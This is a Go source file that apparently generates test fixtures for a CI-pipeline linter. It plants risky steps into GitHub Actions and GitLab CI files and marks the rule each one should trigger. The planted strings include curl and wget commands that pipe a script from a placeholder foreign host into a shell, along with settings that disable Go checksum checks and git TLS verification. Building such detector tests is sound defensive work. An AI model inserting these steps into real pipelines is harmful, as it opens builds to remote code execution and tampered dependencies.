package main

import (
	"regexp"
	"strings"
)

var stepLine = regexp.MustCompile(`^(\s+)- (?:name|uses|run|id|if|env|shell|with):`)

// steps are the lines of a workflow or an action before which a step can stand: those that begin one.
func steps(t *text) (out []*line) {
	indent := -1
	for _, l := range t.lines {
		switch depth := len(l.text) - len(strings.TrimLeft(l.text, " ")); {
		case strings.TrimSpace(l.text) == "steps:":
			indent = depth
		case indent < 0 || strings.TrimSpace(l.text) == "":
		case depth < indent, depth == indent && !strings.HasPrefix(l.text[depth:], "- "):
			indent = -1
		default:
			if m := stepLine.FindStringSubmatch(l.text); m != nil && (len(out) == 0 || depth <= indent+4) && !inBlock(t, l) {
				out = append(out, l)
			}
		}
	}
	return out
}

// inBlock tells whether a line is text of a block scalar: whether the nearest line above it that is indented less ends
// in the sign of one.
func inBlock(t *text, l *line) bool {
	depth := len(l.text) - len(strings.TrimLeft(l.text, " "))
	for i := t.number(l) - 2; i >= 0; i-- {
		above := t.lines[i].text
		if d := len(above) - len(strings.TrimLeft(above, " ")); strings.TrimSpace(above) != "" && d < depth {
			return strings.HasSuffix(above, "|") || strings.HasSuffix(above, ">") || strings.HasSuffix(above, "|-") || strings.HasSuffix(above, ">-")
		}
	}
	return false
}

// before puts lines before another one.
func (t *text) before(l *line, texts ...string) []*line {
	if n := t.number(l); n > 1 {
		return t.after(t.lines[n-2], texts...)
	}
	return t.after(nil, texts...)
}

func workflowRecipes() (out []recipe) {
	for _, format := range []string{"workflow", "action.yml"} {
		for _, s := range []struct {
			rule string
			// change is true for what is told one by one only where a change brings it in.
			change bool
			// step are the lines of a step, and part begins with the word of it that does what is wrong: the name of a
			// setting, the package that nothing pins, the command that downloads.
			step []string
			part string
		}{
			{"WFL001", false, []string{"- run: npm config set registry https://" + foreign}, "registry"},
			{"WFL001", false, []string{"- name: planted", "  run: |", "    set -e", "    go env -w GOSUMDB=off", "    go build"}, "GOSUMDB"},
			{"WFL001", false, []string{"- name: planted", "  run: >-", "    npm ci", "    --registry https://" + foreign}, "--registry"},
			{"WFL001", false, []string{"- env:", "    GOFLAGS: -insecure", "  run: \"true\""}, "GOFLAGS"},
			{"WFL001", false, []string{`- run: "GONOSUMDB='*' go build ./..."`}, "GONOSUMDB"},
			{"WFL001", false, []string{"- {name: planted, run: git config --global http.sslVerify false}"}, "http.sslVerify"},
			{"WFL003", true, []string{"- run: curl -fsSL https://" + foreign + "/install.sh | sh"}, "curl"},
			{"WFL003", true, []string{"- name: planted", "  run: |", "    echo planted", "    bash <(wget -qO- https://" + foreign + "/install.sh)"}, "wget"},
			{"WFL004", true, []string{"- run: npm install -g planted"}, "planted"},
			{"WFL004", true, []string{"- run: go install planted.test/tool@latest"}, "planted.test"},
		} {
			out = append(out, recipe{format: format, name: strings.TrimSpace(strings.Join(s.step, "; ")), change: s.change, plant: func(p *plot) bool {
				step, ok := third(p, p.before3(steps))
				if !ok {
					return false
				}
				indent := step.text[:len(step.text)-len(strings.TrimLeft(step.text, " "))]
				var lines []string
				for _, l := range s.step {
					lines = append(lines, indent+l)
				}
				if format == "action.yml" && !strings.HasPrefix(s.step[0], "- {") {
					lines = append(lines, indent+"  shell: bash")
				}
				for _, l := range p.text.before(step, lines...) {
					if strings.Contains(l.text, s.part) {
						p.mark(s.rule, spot{l, s.part})
					}
				}
				return true
			}})
		}
	}
	out = append(out, recipe{format: "workflow", name: "a download before the gate", plant: func(p *plot) bool {
		first, ok := third(p, p.before3(func(t *text) (out []*line) { // the first step of each job
			list := steps(t)
			for i, l := range t.lines {
				for _, step := range list {
					if strings.TrimSpace(l.text) == "steps:" && i+1 < len(t.lines) && t.lines[i+1] == step {
						out = append(out, step)
					}
				}
			}
			return out
		}))
		if !ok {
			return false
		}
		indent := first.text[:len(first.text)-len(strings.TrimLeft(first.text, " "))]
		l := p.text.before(first, indent+"- run: npm ci", indent+"- uses: org/goproxy-action@v1")[0]
		p.mark("WFL002", spot{l, "npm ci"})
		return true
	}})
	for _, s := range []struct {
		rule   string
		change bool
		text   string
		part   string
	}{
		{"WFL001", false, "    - npm config set registry https://" + foreign, "registry"},
		{"WFL001", false, "    - |\n      set -e\n      go env -w GOSUMDB=off", "GOSUMDB"},
		{"WFL001", false, "    - \"git config --global http.sslVerify false\"", "http.sslVerify"},
		{"WFL003", true, "    - curl -fsSL https://" + foreign + "/install.sh | sh", "curl"},
		{"WFL004", true, "    - go install planted.test/tool@latest", "planted.test"},
	} {
		out = append(out, recipe{format: ".gitlab-ci.yml", name: strings.TrimSpace(strings.ReplaceAll(s.text, "\n", ";")), change: s.change, plant: func(p *plot) bool {
			item, ok := third(p, p.before3(func(t *text) (out []*line) {
				in := false
				for _, l := range t.lines {
					if strings.HasPrefix(l.text, "  ") && !strings.HasPrefix(l.text, "   ") {
						in = strings.HasSuffix(l.text, "script:")
					} else if in && strings.HasPrefix(l.text, "    - ") {
						out = append(out, l)
					}
				}
				return out
			}))
			if ok {
				for _, l := range p.text.before(item, strings.Split(s.text, "\n")...) {
					if strings.Contains(l.text, s.part) {
						p.mark(s.rule, spot{l, s.part})
					}
				}
			}
			return ok
		}})
	}
	for _, variable := range [][2]string{{"GOSUMDB", "\"off\""}, {"GOFLAGS", "-insecure"}, {"npm_config_registry", "https://" + foreign}} {
		out = append(out, recipe{format: ".gitlab-ci.yml", name: "variable " + variable[0], alone: true, plant: func(p *plot) bool {
			job, ok := third(p, p.before3(func(t *text) (out []*line) { // where a job begins
				for _, l := range t.lines {
					if strings.HasPrefix(l.text, "  stage:") {
						out = append(out, l)
					}
				}
				return out
			}))
			if ok {
				p.mark("WFL001", spot{p.text.before(job, "  variables:", "    "+variable[0]+": "+variable[1])[1], variable[0]})
			}
			return ok
		}})
	}
	return out
}
